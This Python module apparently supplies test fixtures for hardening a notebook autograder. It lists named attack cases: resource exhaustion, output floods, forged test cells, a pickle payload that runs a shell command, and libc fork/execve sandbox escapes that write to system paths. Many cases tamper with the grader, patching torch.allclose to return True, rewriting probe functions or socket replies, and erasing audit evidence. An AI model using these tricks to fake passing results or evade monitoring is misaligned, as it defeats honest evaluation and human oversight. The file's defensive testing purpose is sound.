        "exhaust_worker_restarts", EXHAUSTION, target="grad_at",
        edit=_code_cells([f"import os\nos._exit({i})\n" for i in range(14)]),
        notes=("killed its worker (exited with status 11)",),
    ),
    Attack(
        "slow_cells_replayed_after_exits", EXHAUSTION, target="grad_at", hangs=True,
        edit=_code_cells(["import time\ntime.sleep(1)\n", "import os\nos._exit(0)\n"] * 40),
        notes=("used up its time budget",),
    ),
    # ------------------------------------------------------------ output flooding
    Attack(
        "one_30mb_line", FLOODING, 'print("x" * 30_000_000)\n', target="grad_at",
        evidence=("printed past the output cap",),
    ),
    Attack(
        "flood_from_answer", FLOODING, _cell("""
import sys


def grad_at(f, x0):
    print("y" * 30_000_000)
    sys.stderr.write("z" * 10_000_000)
    return None
"""),
        where="in:grad_at", target="grad_at",
    ),
    Attack(
        "raw_fd_flood", FLOODING, _cell("""
import os
import sys

for fd in (1, 2):
    os.write(fd, b"w" * 10_000_000)
sys.__stdout__.write("v" * 10_000_000)
"""),
        target="grad_at",
    ),
    Attack(
        "huge_error_message", FLOODING, 'raise ValueError("e" * 50_000_000)\n', target="grad_at",
    ),
    # ------------------------------------------------------------ notebook-structure tampering
    Attack("test_cell_deleted", STRUCTURE, target="grad_at", edit=_delete_test,
           notes=("test cells deleted or relabelled: test_grad_at",)),
    Attack("test_cell_edited_to_pass", STRUCTURE, target="grad_at", edit=_test_to_pass,
           notes=("test cells edited: test_grad_at",)),
    Attack("test_cell_forges_success", STRUCTURE, target="grad_at", edit=_test_forges_success),
    Attack("grade_ids_swapped", STRUCTURE, target="grad_at", edit=_swap_grade_ids),
    Attack("test_cell_claims_answer_id", STRUCTURE, target="grad_at", edit=_test_claims_answer_id,
           notes=("test cells deleted or relabelled: test_grad_at",)),
    Attack("points_set_to_100", STRUCTURE, target="grad_at", edit=_points_100),
    Attack("test_moved_above_solution", STRUCTURE, target="grad_at", edit=_test_above_solution),
    Attack("correct_duplicate_before_wrong", STRUCTURE, target="grad_at",
           edit=_duplicate_correct_first),
    Attack("bogus_metadata_types", STRUCTURE, target="grad_at", edit=_bogus_metadata),
    Attack("forged_outputs_and_points", STRUCTURE, target="grad_at", edit=_forged_outputs),
    Attack(
        "cell_labelled_as_test_hides_code", STRUCTURE,
        "torch.allclose = lambda *a, **k: True\n", target="grad_at",
        edit=lambda nb: nb["cells"][1]["metadata"].update(nbgrader={"grade_id": "test_grad_at"}),
    ),
    Attack("huge_notebook_near_the_cap", STRUCTURE, target="grad_at", edit=_huge_markdown(19)),
    Attack("hundreds_of_code_cells", STRUCTURE, target="grad_at",
           edit=_code_cells([f"x{i} = {i}\n" for i in range(420)])),
    Attack(
        "parser_bombs", EXHAUSTION, target="grad_at",
        edit=_code_cells(["x = " + "-" * 190_000 + "1\n", "x = " + "(" * 100_000 + "1\n",
                          "x = " + "not " * 45_000 + "1\n", "f" + "()" * 90_000 + "\n"]),
    ),
    # ------------------------------------------------------------ unsafe deserialisation
    Attack(
        "reduce_payload_answer", DESERIALISATION, _cell("""
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch COURSE_ROOT/PWNED",))

    def __repr__(self):
        return "tensor(4.)"


def grad_at(f, x0):
    return Payload()
"""),
        where="in:grad_at", target="grad_at",
    ),
    Attack(
        "forged_reply_frame", DESERIALISATION, _FORGED_REPLY,
        where="in:grad_at", target="grad_at", review=True,  # the loop's own reply follows it
        evidence=("inspects the caller's frames (sys._getframe)",),
    ),
    Attack(
        "garbage_on_channel", DESERIALISATION, _cell("""
import os


def grad_at(f, x0):
    os.write(3, b"\\x00\\x00\\x00\\x05[[[[[")
    return torch.tensor(4.0)
"""),
        where="in:grad_at", target="grad_at",
    ),
    Attack(
        "hostile_answer_objects", DESERIALISATION, _cell("""
class Hostile:
    @property
    def __class__(self):
        return torch.Tensor

    def __repr__(self):
        return "r" * 10_000_000

    def __len__(self):
        raise SystemExit(0)

    def __getattr__(self, name):
        raise KeyboardInterrupt


def derivative_on_grid(f, x):
    nested = [Hostile()]
    for _ in range(10_000):
        nested = [nested]
    return [nested, torch.zeros(10 ** 7), Hostile()]
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
    ),
    # ------------------------------------------------------------ reaching the grading machinery
    Attack(
        "probes_pass_a_plain_class_as_function", MACHINERY, _cell("""
import grader.runtime.probes as probes


class SQ:  # a plain class, not a torch.autograd.Function
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return grad_output * 2 * i


SQ.apply = type("Hidden", (torch.autograd.Function,), {"forward": SQ.forward, "backward": SQ.backward}).apply
_describe = probes._describe_class
probes._describe_class = lambda cls: {**_describe(cls), "is_autograd_function": True}
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_forge_the_chain_rule", MACHINERY, _cell("""
import grader.runtime.probes as probes


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i  # ignores grad_output


_grad = probes._autograd_grad


def _scaled(outputs, inputs, grad_outputs, **kwargs):
    # Report the gradient the chain rule would give: the local one times the upstream gradient.
    ones = tuple(torch.ones_like(g) for g in grad_outputs)
    return tuple(None if g is None else g * grad_outputs[0] for g in _grad(outputs, inputs, ones, **kwargs))


probes._autograd_grad = _scaled
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_hide_an_in_place_change", MACHINERY, _cell("""
import grader.runtime.probes as probes


def derivative_on_grid(f, x):
    x.requires_grad_(True)  # the caller's own tensor
    f(x).sum().backward()
    return x.grad.detach().clone()


_encode = probes.encode
_call = probes._call


def _untouched(target, request, budget, functions):
    reply = _call(target, request, budget, functions)
    reply["args_after"] = [dict(a, requires_grad=False, is_leaf=True) for a in reply["args_after"]]
    return reply


probes._call = _untouched
"""),
        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
    ),
    Attack(
        "probes_answer_for_an_undefined_name", MACHINERY, _cell("""
import grader.runtime.probes as probes


def _derivative(f, x0):
    x = torch.tensor(float(x0), requires_grad=True)
    f(x).backward()
    return x.grad


_wanted = "grad" + "_" + "at"  # the answer's name is never written
_get = probes._dict_get
probes._dict_get = lambda namespace, name, default: _derivative if name == _wanted else _get(namespace, name, default)
"""),
        where="in:grad_at", target="grad_at", review=True,
    ),
    Attack(
        "figure_subclass_draws_nothing", MACHINERY, _cell("""
import types

from matplotlib.figure import Figure


class Drawn(Figure):
    # Describes two perfect lines; nothing is ever plotted.
    def __init__(self, start, end, steps, f):
        super().__init__()
        self.__dict__["fake"] = (start, end, steps, f)

    @property
    def axes(self):
        if "fake" not in self.__dict__:  # while matplotlib builds the figure
            return super().axes
        start, end, steps, f = self.__dict__["fake"]
        x = torch.linspace(start, end, steps, requires_grad=True)
        f(x).sum().backward()
        xs = x.detach().numpy()
        lines = [types.SimpleNamespace(get_label=lambda: "function", get_xdata=lambda orig=False: xs,
                                       get_ydata=lambda orig=False: f(x).detach().numpy()),
                 types.SimpleNamespace(get_label=lambda: "derivative", get_xdata=lambda orig=False: xs,
                                       get_ydata=lambda orig=False: x.grad.numpy())]
        legend = types.SimpleNamespace(get_texts=lambda: [types.SimpleNamespace(get_text=lambda: "function"),
                                                          types.SimpleNamespace(get_text=lambda: "derivative")])
        return [types.SimpleNamespace(get_legend=lambda: legend, get_lines=lambda: lines,
                                      get_xlabel=lambda: "x", get_ylabel=lambda: "", get_title=lambda: "")]


def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    return Drawn(start, end, steps, f)
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative",
    ),
    Attack(
        "silence_the_evidence_collector", MACHINERY, _cell("""
from grader.worker.evidence import AuditRecorder, PatchWatch

AuditRecorder._observe = lambda self, event, args: None
PatchWatch.changes = lambda self, builtins_view: []
torch.allclose = lambda *a, **k: True
with open("/tmp/unlisted", "w") as out:
    out.write("nobody saw this")
"""),
        target="grad_at", review=True,
        evidence=("left /tmp/unlisted outside its working directory",),
    ),
    Attack(
        "replies_rewritten_on_the_way_out", MACHINERY, _cell("""
import json
import struct
import sys

_sockets = sys.modules["sock" + "et"]


def derivative_on_grid(f, x):
    x.requires_grad_(True)  # the caller's own tensor
    f(x).sum().backward()
    return x.grad.detach().clone()


def _untouched(value):
    if isinstance(value, dict):
        if value.get("kind") == "tensor":
            value.update(requires_grad=False, is_leaf=True, grad_fn=None)
        for inner in value.values():
            _untouched(inner)
    elif isinstance(value, list):
        for inner in value:
            _untouched(inner)


def _forging(send):
    def sendall(self, data, *rest):
        try:
            body = json.loads(bytes(data[4:]))
            _untouched(body.get("reply", {}).get("args_after"))
            raw = json.dumps(body, separators=(",", ":")).encode()
            data = struct.pack(">I", len(raw)) + raw
        except Exception:
            pass
        return send(self, data, *rest)
    return sendall


_sockets.socket.sendall = _forging(_sockets.socket.sendall)
json.encoder.JSONEncoder.encode = lambda self, o: "{}"
json.dumps = lambda *a, **k: "{}"
"""),
        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
    ),
    Attack(
        "autograd_engine_rebound", MACHINERY, _cell("""
import torch.autograd as _autograd


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i  # the chain rule forgotten


_engine = vars(_autograd)["_engine_run_backward"]


def _scaled(outputs, grad_outputs, *rest, **kwargs):
    if any(type(getattr(o, "grad_fn", None)).__name__.startswith("SQBackward") for o in outputs):
        local = _engine(outputs, tuple(torch.ones_like(g) for g in grad_outputs), *rest, **kwargs)
        return tuple(None if g is None else g * grad_outputs[0] for g in local)
    return _engine(outputs, grad_outputs, *rest, **kwargs)


vars(_autograd)["_engine_run_backward"] = _scaled
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "figure_methods_set_on_its_own_objects", MACHINERY, _cell("""
from types import SimpleNamespace as _NS


def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    y.sum().backward()
    fig, ax = plt.subplots()
    for label, data in (("function", y.detach().numpy()), ("derivative", x.grad.numpy())):
        (line,) = ax.plot([], [])  # nothing is drawn, no label
        line.get_xdata = lambda orig=True: x.detach().numpy()
        line.get_ydata = lambda orig=True, d=data: d
        line.get_label = lambda l=label: l
    ax.get_xlabel = lambda: "x"
    ax.get_legend = lambda: _NS(get_texts=lambda: [_NS(get_text=lambda: "function"), _NS(get_text=lambda: "derivative")])
    plt.close(fig)
    return fig
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative",
    ),
    Attack(
        "figure_data_written_past_the_caches", MACHINERY, _cell("""
def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    y.sum().backward()
    fig, ax = plt.subplots()
    for label, data in (("function", y.detach().numpy()), ("derivative", x.grad.numpy())):
        (line,) = ax.plot([], [])  # an empty line is drawn
        line.get_xdata()  # the empty data is cached now
        line._x, line._y, line._label = x.detach().numpy(), data, label
    ax.xaxis.label._text = "x"
    ax.legend_ = ax.legend(["function", "derivative"])
    plt.close(fig)
    return fig
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative",
    ),
    Attack(
        "figure_lines_hidden", MACHINERY, _cell("""
def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    y.sum().backward()
    fig, ax = plt.subplots()
    for label, data in (("function", y.detach()), ("derivative", x.grad)):
        ax.plot(x.detach(), data, label=label, visible=False)  # the data is there, nothing shows
    ax.set_xlabel("x")
    ax.legend()
    plt.close(fig)
    return fig
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative",
    ),
    Attack(
        "figure_legend_and_label_hidden", MACHINERY, _cell("""
def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    (dydx,) = torch.autograd.grad(y.sum(), x)
    fig, ax = plt.subplots()
    ax.plot(x.detach().numpy(), y.detach().numpy(), label="function")
    ax.plot(x.detach().numpy(), dydx.numpy(), label="derivative")
    ax.set_xlabel("x", visible=False)
    ax.legend().set_visible(False)  # drawn nowhere
    return fig
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative",
    ),
    Attack(
        "pyplot_close_rewrites_a_calls_reply", MACHINERY, _cell("""
def derivative_on_grid(f, x):
    x.requires_grad_()
    f(x).sum().backward()
    return x.grad


import sys as _sys
import matplotlib.pyplot as _plt

_real_close = _plt.close


def _close(*args, **kwargs):
    frame = _sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_call":
            after, left = frame.f_locals.get("after"), frame.f_locals.get("left")
            if isinstance(after, list) and isinstance(left, list):
                for item in after:
                    if isinstance(item, dict):
                        item["requires_grad"] = False
                left[:] = [False] * len(left)
            break
        frame = frame.f_back
    return _real_close(*args, **kwargs)


_plt.close = _close
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
    ),
    Attack(
        "dispatch_rewrites_a_calls_reply_while_it_is_encoded", MACHINERY, _cell("""
import sys as _sys


class _Grad(torch.Tensor):
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        frame = _sys._getframe(1)
        while frame is not None:
            if frame.f_code.co_name == "_call":
                after, left = frame.f_locals.get("after"), frame.f_locals.get("left")
                if isinstance(after, list) and isinstance(left, list):
                    for item in after:
                        if isinstance(item, dict):
                            item["requires_grad"] = False
                    left[:] = [False] * len(left)
                break
            frame = frame.f_back
        plain = [a._plain if isinstance(a, _Grad) else a for a in args]
        return func(*plain, **(kwargs or {}))


def derivative_on_grid(f, x):
    x.requires_grad_()
    f(x).sum().backward()
    grad = x.grad.detach().clone()
    out = torch.Tensor._make_subclass(_Grad, grad)
    out._plain = grad
    return out
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
    ),
    Attack(
        "upstream_snapshot_rewritten_from_backward", MACHINERY, _cell("""
import sys as _sys


def _tidy(grad):
    frame = _sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_gradients":
            before = frame.f_locals.get("before")
            if isinstance(before, torch.Tensor) and before.shape == grad.shape:
                before.copy_(grad)
            break
        frame = frame.f_back


class MulConstant(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, k):
        ctx.k = k
        return k * x

    @staticmethod
    def backward(ctx, grad_output):
        grad_output.mul_(ctx.k)  # scaled where it is
        _tidy(grad_output)
        return grad_output, None
"""),
        where="in:MulConstant", target="MulConstant",
    ),
    Attack(
        "figure_methods_rebound", MACHINERY, _cell("""
from types import SimpleNamespace

from matplotlib.axes import Axes
from matplotlib.lines import Line2D


def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    y.sum().backward()
    fig, ax = plt.subplots()
    for label, data in (("function", y), ("derivative", x.grad)):
        (line,) = ax.plot([], [], label=label)  # nothing is drawn
        line.shown = (x.detach().numpy(), data.detach().numpy())
    plt.close(fig)
    return fig


Line2D.get_xdata = lambda self, orig=True: self.shown[0]
Line2D.get_ydata = lambda self, orig=True: self.shown[1]
Axes.get_xlabel = lambda self: "x"
Axes.get_legend = lambda self: SimpleNamespace(
    get_texts=lambda: [SimpleNamespace(get_text=lambda: "function"), SimpleNamespace(get_text=lambda: "derivative")])
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative", review=True,
    ),
    Attack(
        "hook_installed_while_the_checks_run", MACHINERY, _cell("""
import sys


def _rewrite(frame, event, value):
    if event == "return" and frame.f_code.co_name == "_gradients" and type(value) is dict:
        upstream, grads = frame.f_locals.get("upstream"), frame.f_locals.get("grads")
        encode = sys.modules["grader.runtime.encoding"].encode
        if type(grads) is tuple and grads and grads[0] is not None:
            value["grads"][0] = encode(grads[0].detach() * upstream)


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        getattr(sys, "setpro" + "file")(_rewrite)  # armed only while the checks run
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i  # the chain rule forgotten
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "torch_mode_left_active", MACHINERY, _cell("""
import weakref

from torch.overrides import TorchFunctionMode

_requires_grad = torch._C.TensorBase.__dict__["requires_grad"]
_marked = {}


def _quiet(self, func, types, args=(), kwargs=None):
    if getattr(func, "__self__", None) is _requires_grad and args and _marked.get(id(args[0]), lambda: None)() is args[0]:
        return False
    return func(*args, **(kwargs or {}))


class _Quiet(TorchFunctionMode):
    __torch_function__ = _quiet


def derivative_on_grid(f, x):
    x.requires_grad_(True)  # the caller's own tensor
    _marked[id(x)] = weakref.ref(x)
    f(x).sum().backward()
    return x.grad.detach().clone()


_Quiet().__enter__()  # never exited: it would answer for every tensor the probes read
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
        evidence=("left a torch function or dispatch mode active",),
    ),
    Attack(
        "torch_mode_entered_while_the_checks_run", MACHINERY, _cell("""
from torch.overrides import TorchFunctionMode


class _Scaled(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        _Scaled().__enter__()  # armed only while the checks run
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i  # the chain rule forgotten
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "frames_walked_to_swap_the_probes_arguments", MACHINERY, _cell("""
import sys


def derivative_on_grid(f, x):
    x.requires_grad_(True)  # the caller's own tensor
    f(x).sum().backward()
    frame = sys._getframe(0)
    while frame is not None:  # the judge's tensor, swapped for a clean copy in the probe's own list
        for name in ("args", "tensors"):
            held = frame.f_locals.get(name)
            if isinstance(held, list):
                held[:] = [x.detach().clone() if item is x else item for item in held]
        frame = frame.f_back
    return x.grad.detach().clone()
"""),
        where="in:derivative_on_grid", target="derivative_on_grid",
    ),
    # ------------------------------------------------------------ taking over the conversation
    Attack(
        "loop_served_from_a_call", CONVERSATION, _taking_over("", """
    _serve(loop, loop.f_locals["message"], loop.f_locals["seq"], {"SQ": _HonestSQ})  # never returns
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "loop_served_by_a_thread", CONVERSATION, _taking_over("import threading as _threading\n", """
    _threading.Thread(target=_serve, args=(loop, loop.f_locals["message"], loop.f_locals["seq"],
                                           {"SQ": _HonestSQ}), daemon=True).start()
    _threading.Event().wait()  # the worker's own thread stops here for good
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "loop_answered_by_a_fork", CONVERSATION, _twin("""
import os as _os

_split = _os.fork
"""),
        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
    ),
    Attack(
        "loop_answered_by_a_clone_through_libc", CONVERSATION, _twin("""
import ctypes as _ctypes
import platform as _platform

_libc = _ctypes.CDLL(None, use_errno=True)
_CLONE = {"x86_64": 56, "aarch64": 220}[_platform.machine()]


def _split():
    return _libc.syscall(_CLONE, 17, 0, 0, 0, 0)  # clone(SIGCHLD): a copy that goes on from here
"""),
        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
    ),
    Attack(
        "reply_written_past_the_loop", CONVERSATION, _cell(_LOOP_TOOLS + _HONEST + """
import os as _os
import signal as _signal
import socket as _socket


def _divert_the_loops_own_reply():
    # the loop's own reply goes into a socket of ours; a timer puts the channel back once it has
    spare, sink = _socket.socketpair()
    channel = _os.dup(3)
    _os.dup2(spare.fileno(), 3)

    def restore(*_):
        try:
            sink.recv(1 << 20, _socket.MSG_DONTWAIT)
        except BlockingIOError:
            return
        _os.dup2(channel, 3)
        _signal.setitimer(_signal.ITIMER_REAL, 0)
        for held in (spare, sink):
            held.close()
        _os.close(channel)

    _signal.signal(_signal.SIGALRM, restore)
    _signal.setitimer(_signal.ITIMER_REAL, 0.0005, 0.0005)


def derivative_on_grid(f, x):
    loop = _loop()
    if loop is not None:
        frame = _reply(loop, loop.f_locals["message"], loop.f_locals["seq"], {"derivative_on_grid": _honest_grid})
        while frame:
            frame = frame[_os.write(3, frame):]
        _divert_the_loops_own_reply()
    x.requires_grad_(True)  # the caller's own tensor
    f(x).sum().backward()
    return x.grad.detach().clone()
"""),
        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
    ),
    Attack(
        "probes_patched_and_restoring_themselves", CONVERSATION, _patch_restored("""
_after_use = _restore


def _arm(ctx):
    pass
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_patched_and_restored_by_a_signal_handler", CONVERSATION, _patch_restored("""
import signal as _signal


def _after_use():
    _signal.raise_signal(_signal.SIGUSR1)  # the handler runs as soon as the interpreter checks


def _arm(ctx):
    _signal.signal(_signal.SIGUSR1, _restore)
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_patched_and_restored_by_a_thread", CONVERSATION, _patch_restored("""
import threading as _threading


def _after_use():
    _threading.Thread(target=_restore).start()


def _arm(ctx):
    pass
"""),
        where="in:SQ", target="SQ", review=True, races=True,
    ),
    Attack(
        "probes_patched_and_restored_by_a_finaliser", CONVERSATION, _patch_restored("""
class _Restorer:
    def __del__(self):
        _restore()


def _after_use():
    pass


def _arm(ctx):
    ctx.restorer = _Restorer()  # freed with the graph, once the probe is done with it
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_patched_and_restored_by_a_trace_hook", CONVERSATION, _patch_restored("""
import sys as _sys

_set_hook = getattr(_sys, "setpro" + "file")


def _after_use():
    pass


def _hook(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "_gradients":
        _restore()
        _set_hook(None)
        caller = frame
        while caller is not None and "runner" not in caller.f_locals:
            caller = caller.f_back
        if caller is not None:  # and the hook's own evidence is taken back
            events = caller.f_locals["runner"].audit.events
            events[:] = [e for e in events if "profile" not in e]


def _arm(ctx):
    _set_hook(_hook)
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "probes_patched_then_the_worker_killed", CONVERSATION, _cell("""
import os as _os

import grader.runtime.probes as _probes

_real = _probes._autograd_grad


def _scaled(outputs, inputs, grad_outputs, **kwargs):
    local = _real(outputs, inputs, tuple(torch.ones_like(g) for g in grad_outputs), **kwargs)
    return tuple(None if g is None else g * grad_outputs[0] for g in local)


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        if i.dtype == torch.float64:  # the last part's cases: the worker, patched, goes before anyone looks
            _os._exit(0)
        _probes._autograd_grad = _scaled
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output  # the chain rule forgotten
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "figure_method_rebound_and_restored", CONVERSATION, _cell("""
from matplotlib.lines import Line2D

_real_ydata = Line2D.__dict__["get_ydata"]


def _forged_ydata(self, orig=True):
    forged = self.__dict__.get("forged")
    if forged is None:
        return _real_ydata(self, orig)
    Line2D.get_ydata = _real_ydata  # put back as soon as it has answered for the derivative
    return forged


def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
    x = torch.linspace(start, end, steps, requires_grad=True)
    y = f(x)
    y.sum().backward()
    fig, ax = plt.subplots()
    ax.plot(x.detach().numpy(), y.detach().numpy(), label="function")
    (line,) = ax.plot(x.detach().numpy(), y.detach().numpy(), label="derivative")  # f again
    line.forged = x.grad.numpy()
    ax.set_xlabel("x")
    ax.legend()
    Line2D.get_ydata = _forged_ydata
    return fig
"""),
        where="in:plot_function_and_derivative", target="plot_function_and_derivative", review=True,
    ),
    Attack(
        "probe_code_swapped_and_restored", CONVERSATION, _cell("""
import sys as _sys

import grader.runtime.probes as _probes

_sys.modules["__main__"].__dict__["_REAL_GRADIENTS"] = _probes._gradients.__code__


def _forged_gradients(output, inputs, upstream, second, budget):
    # runs as the probes' own _gradients (their globals): restores its code, then answers
    _gradients.__code__ = sys.modules["__main__"].__dict__["_REAL_GRADIENTS"]
    leaves = _tuple(i for i, t in enumerate(inputs) if _isinstance(t, _Tensor) and _get_requires_grad(t))
    tensors = _tuple(inputs[i] for i in leaves)
    local = _autograd_grad((output,), tensors, (upstream * 0 + 1,), create_graph=True, allow_unused=True)
    grads = _tuple(g * upstream for g in local)
    firsts = _sealed(_per_input(inputs, leaves, grads, budget))
    seconds = "null"
    if second is not None:
        values = _autograd_grad((grads[0],), tensors, (second,), allow_unused=True)
        seconds = _sealed(_per_input(inputs, leaves, values, budget))
    return f'{{"grads":{firsts},"second":{seconds},"upstream_changed":false}}'


class SQ(torch.autograd.Function):
    @staticmethod
    def forward(ctx, i):
        _probes._gradients.__code__ = _forged_gradients.__code__
        ctx.save_for_backward(i)
        return i ** 2

    @staticmethod
    def backward(ctx, grad_output):
        (i,) = ctx.saved_tensors
        return 2 * i + 0 * grad_output  # the chain rule forgotten
"""),
        where="in:SQ", target="SQ", review=True,
    ),
    Attack(
        "libc_fork_gone_before_the_look", ESCAPE, _cell("""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
child = libc.fork()
if child == 0:
    libc._exit(0)
libc.waitpid(child, None, 0)  # reaped: nothing is left for the looks to list
"""),
        target="grad_at",
        evidence=("started 1 process or thread that ended before the judge looked",),
    ),
    Attack(
        "libc_fork_and_execve", ESCAPE, _cell("""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
started, exec_done = os.pipe()  # both close on exec: EOF once the child runs sleep
if libc.fork() == 0:
    argv = (ctypes.c_char_p * 3)(b"sleep", b"300", None)
    libc.execve(b"/bin/sleep", argv, (ctypes.c_char_p * 1)(None))
    libc._exit(0)
os.close(exec_done)
os.read(started, 1)
if libc.fork() == 0:
    libc.pause()  # a copy of the worker that waits
"""),
        target="grad_at", detaches=True, review=True,  # alive when the checks begin
        evidence=("started a process (sleep)", "started a process (python"),
    ),
    Attack(
        "libc_writes_outside_the_folder", WRITES, _cell("""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mkdir(b"/tmp/made-by-libc", 0o755)
libc.symlink(b"/tmp/work", b"/tmp/link-by-libc")
open("moved", "w").close()
libc.rename(b"moved", b"/tmp/moved-by-libc")
fd = libc.open(b"/tmp/written-by-libc", os.O_WRONLY | os.O_CREAT, 0o644)
libc.write(fd, b"x", 1)
for target in (b"/usr/local/evil", b"/etc/evil", b"/evil", b"/dev/evil", b"/var/evil"):
    failed = [libc.mkdir(target, 0o755), libc.symlink(b"/tmp", target), libc.rename(b"/tmp/work", target),
              libc.open(target, os.O_WRONLY | os.O_CREAT, 0o644)]
    print("WRITE-OK" if any(result >= 0 for result in failed) else "WRITE-FAILED", "libc", target)
    for attempt in (lambda: os.mkdir(target), lambda: os.symlink("/tmp", target),
                    lambda: os.rename("/tmp/work", target), lambda: open(target, "w")):
        try:
            attempt()
            print("WRITE-OK", "os", target)
        except OSError as exc:
            print("WRITE-FAILED", "os", target, type(exc).__name__)
"""),
        target="grad_at", writes=True,
        evidence=("left /tmp/made-by-libc outside", "left /tmp/link-by-libc outside",
                  "left /tmp/moved-by-libc outside", "left /tmp/written-by-libc outside"),
    ),
)


def attack(name: str) -> Attack:
    """The attack with this name."""
    return next(a for a in ATTACKS if a.name == name)


# ---------------------------------------------------------------- honest faults

FAULTS: tuple[Fault, ...] = (
    Fault("warning", "import warnings\nwarnings.warn('this is deprecated')\n"),
    Fault("stderr_print", "import sys\nprint('debugging', file=sys.stderr)\n"),
    Fault("extra_prints_in_answers", answers={
        "grad_at": "def grad_at(f, x0):\n    print('computing', x0)\n"
                   "    x = torch.tensor(float(x0), requires_grad=True)\n"
                   "    f(x).backward()\n    print('grad', x.grad)\n    return x.grad\n",
    }),
    Fault("warning_and_stderr_in_answer", answers={
        "grad_at": "import sys\nimport warnings\n\n\ndef grad_at(f, x0):\n"
                   "    warnings.warn('about to differentiate')\n"
                   "    print('x0 =', x0, file=sys.stderr)\n"
                   "    x = torch.tensor(float(x0), requires_grad=True)\n"
                   "    f(x).backward()\n    return x.grad\n",
    }),
    Fault("float64_answers", answers={
        qid: next(a.source for a in correct_for(qid) if "float64" in a.name)
        for qid in ("grad_at", "derivative_on_grid", "plot_function_and_derivative",
                    "partial_derivatives")
    }),
    Fault("numpy_testing_checks_of_its_own", "import numpy as np\nimport numpy.testing as npt\n\n"
          "np.testing.assert_allclose(torch.ones(2).numpy(), np.ones(2))\nnpt.assert_array_equal(np.zeros(1), 0)\n"),
    Fault("course_words_in_comments", "# this cell is autograded: the gradebook keeps my score, and nothing\n"
          "# of mine goes to ../ or site-packages\nnote = 'ok'  # submitted/ is where it ends up\n"),
    Fault("stray_sys_exit", "import sys\nsys.exit()\n"),
    Fault("stray_exit_between_answers", "raise SystemExit(1)\n", where="after:test_SQ"),
    Fault("infinite_loop_after_answers", "while True:\n    pass\n", where="end", hangs=True,
          witnessed=True),
    Fault("os_exit_after_answers", "import os\nos._exit(0)\n", where="end", witnessed=True),
    Fault("answers_after_their_tests", edit=lambda nb: _move_answers_to_end(nb)),
    Fault("magics_and_shell_lines", "%matplotlib inline\n!pip list\n%time y = 1\n"),
    Fault("timeit_with_options_in_an_answer", answers={
        "grad_at": "%timeit -n 1 -r 1 -q warm = torch.ones(2).sum()\n\n\n"
